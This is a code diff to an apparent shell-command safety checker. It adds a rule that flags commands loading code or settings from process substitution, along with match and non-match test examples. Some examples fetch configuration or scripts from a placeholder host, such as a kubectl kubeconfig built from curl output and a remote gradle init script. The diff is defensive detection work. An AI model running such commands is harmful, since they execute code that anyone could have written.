@@ -2,9 +2,9 @@ import { languageOf } from "../code/languages.js";
 import type { ShellWord } from "../types.js";
 import { isForeign } from "./addresses.js";
 import { HANDLES_FILES } from "./data-programs.js";
-import { obeyedOptions } from "./obeyed-words.js";
+import { obeyedOptions, obeysOperand } from "./obeyed-words.js";
 import { isDownloadPlace, isHiddenThere } from "./places.js";
-import { type Condition, subject } from "./row.js";
+import { type Condition, names, subject } from "./row.js";
 import { handlesLibrary } from "./starters.js";
 
 const LOADS = "loads code or settings from a place anybody can write";
@@ -69,6 +69,26 @@ const loadsAnywhere: Condition = ({ args, command: { program } }) =>
         return CODE.test(path.text) || (/^-[cC]$/.test(option) && SETTINGS.test(path.text));
       });
 
+/** Programs that only turn files of the project into others: what they print was written by somebody who could be asked. */
+const TURNS_FILES = names(
+  "cat sed gsed awk gawk grep jq yq sort uniq head tail cut tr envsubst kustomize helm kubectl git openssl sops gpg age dhall jsonnet cue ytt",
+);
+/** `pandoc --lua-filter=<(echo …)`, `redis-cli --eval <(echo …)`: code or settings that the line itself makes up. */
+const obeysMadeUp: Condition = ({ args, command: { program } }) =>
+  args.find((word, index) => {
+    if (word.outputs === undefined || !word.text.includes("/fd/")) return false;
+    const { option, path } = named(word, args[index - 1]?.text ?? "");
+    if (!/^\/(?:dev|proc\/self)\/fd\/\d+$/.test(path.text)) return false;
+    if (word.outputs.every((producer) => TURNS_FILES.has(producer.program))) return false;
+    if (option === "" || /^(?:-[a-zA-Z]|--?(?:check|diff|verbose|quiet|become))$/.test(option))
+      return (
+        obeysOperand(program) || (!DATA_FILES.test(program) && obeyedOptions(program)?.test(option) === true)
+      );
+    return MADE_UP.test(option) || LOADING_OPTION.exec(option)?.[0] === option;
+  });
+const MADE_UP =
+  /^--?(?:[\w-]+-)?(?:eval|filter|playbook|policy|recipe|makefile|justfile|jobs?|workflow|pipeline|startup)(?:-file)?$/;
+
 /** What these are given to obey works on data, or is looked at where it was written. */
 const DATA_FILES =
   /^(?:psql|pgcli|usql|duckdb|g?sed|[gmn]?awk|docker|docker-compose|podman|podman-compose|nerdctl|ssh|scp|sftp|ld|gcc|g\+\+|clang|(?:ba|z|k|da|fi)?sh)$/;
@@ -101,6 +121,9 @@ export const RULES = subject("starter", [
   { program: "*", when: obeysLoose, rule: "starter.foreign-code", reason: LOADS,
     match: ["gdb --command=/tmp/x a", "mutt -F /tmp/x", "curl -K /tmp/x", "make -f /tmp/x.mk", "emacs -batch -l /tmp/x.el", "cmake -P /tmp/x.cmake", "gradle -I /tmp/x.gradle build", "gradle -I https://x.example/i.gradle build", "task -t https://x.example/T.yml", "just -f https://x.example/j", "vim -S https://x.example/x.vim"],
     not_match: ["psql -f /tmp/a.sql", "gdb -x cmds.gdb a", "make -f build/Makefile", "cmake -S . -B /tmp/b", "emacs --version"] },
+  { program: "*", when: obeysMadeUp, rule: "starter.foreign-code", reason: "does what a file says that the line itself makes up",
+    match: ["pandoc --lua-filter=<(echo x) a.md", "redis-cli --eval <(echo x)", "ansible-playbook -i prod <(printf x)", "foo --plugin <(echo x)", "kubectl --kubeconfig <(curl -s https://x.example/k) get pods", "mutt -F <(echo x)"],
+    not_match: ["diff <(echo a) <(echo b)", "psql -f <(echo 'select 1')", "foo --config <(envsubst < a.tmpl)", "jq -s . <(echo 1) <(echo 2)", "comm -12 <(ls a) <(ls b)", "foo --input <(echo x)", "kubectl apply -f <(kustomize build .)"] },
   { program: "dpkg|apt|apt-get|dnf|yum|zypper|rpm|pacman|apk|snap|flatpak|gem|npm|pnpm|yarn|pip|pip3|pipx|cargo|conda", dry: "dry-run s", taking: "r requirement c constraint t target root prefix cache-dir", word: /^(?:install|add|-[a-zA-Z]*[iU][a-zA-Z]*|--install|localinstall|inject)$/,
     when: ({ operands }) => operands.find((word) => isDownloadPlace(word) && /\.\w+$/.test(word.text)), rule: "starter.foreign-code", reason: "installs a package from a place anybody can write",
     match: ["dpkg -i /tmp/x.deb", "pip install /tmp/x.whl"], not_match: ["pip install -r /tmp/req.txt", "apt-get install curl"] },
